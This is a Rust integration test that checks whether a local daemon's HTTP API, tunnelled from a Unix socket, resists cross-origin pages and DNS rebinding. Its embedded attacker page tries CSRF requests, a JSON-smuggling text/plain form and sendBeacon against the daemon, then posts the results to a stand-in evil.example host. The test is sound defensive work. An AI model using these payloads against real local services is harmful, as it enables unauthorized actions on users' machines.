//! A page of another origin in a real browser, which reaches the socket through a bridge as with `ssh -L`, and gets nothing there.

use crate::harness::{Daemon, Setup, tempdir};
use crate::needs::needs;
use crate::stand_in::{Ended, SOON};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex, mpsc};

/// The name of the attacker's site. The browser is told that it leads to this machine, as a rebound name does.
const EVIL: &str = "evil.example";

/// Tries everything that a page can do, on the daemon of another origin and on the one behind the page's own name.
const PAGE: &str = r#"<!doctype html><iframe name="frame"></iframe><script type="module">
const said = {};
const attempt = async (name, act) => { try { said[name] = await act(); } catch (e) { said[name] = "blocked: " + e; } };
const read = async (url, how) => { const answer = await fetch(url, how); return answer.status + " " + await answer.text(); };
const loaded = element => new Promise((well, badly) => { element.onload = () => well("loaded"); element.onerror = badly; });
const json = { "Content-Type": "application/json" };
for (const base of [`http://localhost:${location.port}`, `http://127.0.0.1:${location.port}`, location.origin]) {
  await attempt(base + " get", () => read(base + "/v1/status"));
  await attempt(base + " get no-cors", () => read(base + "/v1/status", { mode: "no-cors" }));
  await attempt(base + " post no-cors", () => read(base + "/v1/drain", { method: "POST", mode: "no-cors", body: "{}" }));
  await attempt(base + " post", () => read(base + "/v1/drain", { method: "POST", body: "{}" }));
  await attempt(base + " post json", () => read(base + "/v1/drain", { method: "POST", headers: json, body: "{}" }));
  await attempt(base + " put", () => read(base + "/v1/drain", { method: "PUT", headers: json, body: "{}" }));
  await attempt(base + " script", () => {
    const script = document.createElement("script");
    script.src = base + "/v1/ping";
    const done = loaded(script);
    document.head.append(script);
    return done;
  });
  await attempt(base + " form", () => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", enctype: "text/plain", action: base + "/v1/drain", target: "frame" });
    form.innerHTML = `<input name='{"device": "cpu", "x' value='": 1}'>`;
    document.body.append(form);
    const done = loaded(document.querySelector("iframe"));
    form.submit();
    return done.then(() => frames.frame.document.body.textContent);
  });
  navigator.sendBeacon(base + "/v1/drain", "{}");
}
await fetch("http://evil.example:REPORT/", { method: "POST", mode: "no-cors", body: JSON.stringify(said) });
</script>"#;

/// Carries each TCP connection to the socket, as a tunnel does. Only the attacker's own page is served here.
struct Bridge {
    port: u16,
    /// All that went to the daemon and came from it.
    carried: Arc<Mutex<String>>,
}

impl Bridge {
    fn start(socket: &Path, page: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bound");
        let bridge = Bridge { port: port(&listener), carried: Arc::default() };
        let (carried, socket) = (bridge.carried.clone(), socket.to_path_buf());
        // Ends with the test's process.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (carried, socket, page) = (carried.clone(), socket.clone(), page.clone());
                // A browser may go away at any moment.
                std::thread::spawn(move || serve(stream, &socket, &page, &carried));
            }
        });
        bridge
    }

    fn carried(&self) -> String {
        self.carried.lock().expect("no panic").clone()
    }
}

fn port(listener: &TcpListener) -> u16 {
    listener.local_addr().expect("asked").port()
}

fn serve(mut stream: TcpStream, socket: &Path, page: &str, carried: &Arc<Mutex<String>>) -> std::io::Result<()> {
    let mut start = vec![0; 1 << 16];
    let length = stream.read(&mut start)?;
    let start = &start[..length];
    if start.starts_with(b"GET /page ") {
        return write!(stream, "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n{page}");
    }
    let mut daemon = UnixStream::connect(socket)?;
    let (mut answers, mut browser) = (daemon.try_clone()?, stream.try_clone()?);
    let log = carried.clone();
    std::thread::spawn(move || {
        let _ = carry(&mut answers, &mut browser, &log);
        let _ = browser.shutdown(Shutdown::Both);
    });
    carried.lock().expect("no panic").push_str(&String::from_utf8_lossy(start));
    daemon.write_all(start)?;
    let _ = carry(&mut stream, &mut daemon, carried);
    daemon.shutdown(Shutdown::Both)
}

/// What the page sends to the attacker's other port. Not to the bridge, where it could follow another request to the daemon.
fn receive_report(listener: TcpListener) -> mpsc::Receiver<Value> {
    let (sender, receiver) = mpsc::channel();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let sender = sender.clone();
            // A thread each: a browser also opens connections that it does not use.
            std::thread::spawn(move || {
                let (mut request, mut piece) = (Vec::new(), [0; 1 << 12]);
                while let Ok(length @ 1..) = stream.read(&mut piece) {
                    request.extend_from_slice(&piece[..length]);
                    let text = String::from_utf8_lossy(&request);
                    let body = text.split_once("\r\n\r\n").map(|(_, body)| body);
                    if let Some(report) = body.and_then(|body| serde_json::from_str(body).ok()) {
                        // The test may have ended.
                        let _ = sender.send(report);
                    }
                }
            });
        }
    });
    receiver
}

fn carry(from: &mut impl Read, to: &mut impl Write, carried: &Mutex<String>) -> std::io::Result<()> {
    let mut piece = vec![0; 1 << 16];
    loop {
        let length = from.read(&mut piece)?;
        if length == 0 {
            return Ok(());
        }
        carried.lock().expect("no panic").push_str(&String::from_utf8_lossy(&piece[..length]));
        to.write_all(&piece[..length])?;
    }
}

/// The browser without a window, in a profile of its own.
fn browser(program: &Path, profile: &Path, url: &str) -> Command {
    let mut command = Command::new(program);
    command.args(["--headless", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage", "--no-proxy-server"]);
    // Its sandbox cannot be had by root, nor in many containers. It opens only what this test serves.
    command.arg("--no-sandbox");
    command.arg(format!("--user-data-dir={}", profile.display())).arg(format!("--host-resolver-rules=MAP {EVIL} 127.0.0.1"));
    command.arg(url).stdin(Stdio::null()).stderr(Stdio::null());
    command
}

#[test]
fn a_page_of_another_origin_changes_nothing_and_reads_nothing_even_under_a_rebound_name() {
    let Some(chromium) = needs("chromium") else { return };
    let dir = tempdir();
    let daemon = Daemon::start(dir.path(), &Setup::default());
    let reports = TcpListener::bind("127.0.0.1:0").expect("bound");
    let page = PAGE.replace("REPORT", &port(&reports).to_string());
    let report = receive_report(reports);
    let bridge = Bridge::start(&dir.path().join("d.sock"), page);
    let profile = tempdir();
    let port = bridge.port;

    let own = format!("http://localhost:{port}/v1/ping");
    let own = browser(&chromium, &profile.path().join("own"), &own).arg("--dump-dom").output().expect("it runs");
    let own = String::from_utf8_lossy(&own.stdout);
    assert!(own.contains("\"pid\""), "the user himself may look in a browser: {own}");

    let url = format!("http://{EVIL}:{port}/page");
    let evil =
        browser(&chromium, &profile.path().join("evil"), &url).arg("--remote-debugging-port=0").stdout(Stdio::null()).spawn();
    let evil = Ended(evil.expect("it runs"));
    let said =
        report.recv_timeout(SOON).unwrap_or_else(|e| panic!("the page has not tried everything: {e}\n{}", bridge.carried()));
    drop(evil);

    let tries = said.as_object().expect("an object");
    assert_eq!(tries.len(), 3 * 8, "{said:#}");
    for (what, result) in tries {
        let result = result.as_str().unwrap_or_default();
        // Under the rebound name the browser lets the page read. What it reads is a refusal.
        let may_read = what.starts_with(&format!("http://{EVIL}"));
        let is_refused = result.starts_with("blocked") || may_read && result.contains("allowed_hosts");
        assert!(is_refused, "{what}: {result}");
    }
    let carried = bridge.carried();
    for sent in [format!("Host: localhost:{port}"), format!("Host: 127.0.0.1:{port}"), format!("Host: {EVIL}:{port}")] {
        assert!(carried.contains(&format!("POST /v1/drain HTTP/1.1\r\n{sent}")), "this reached the daemon: {sent}\n{carried}");
    }
    assert!(!daemon.log().contains("changed verb="), "{said:#}\n{}", daemon.log());
}
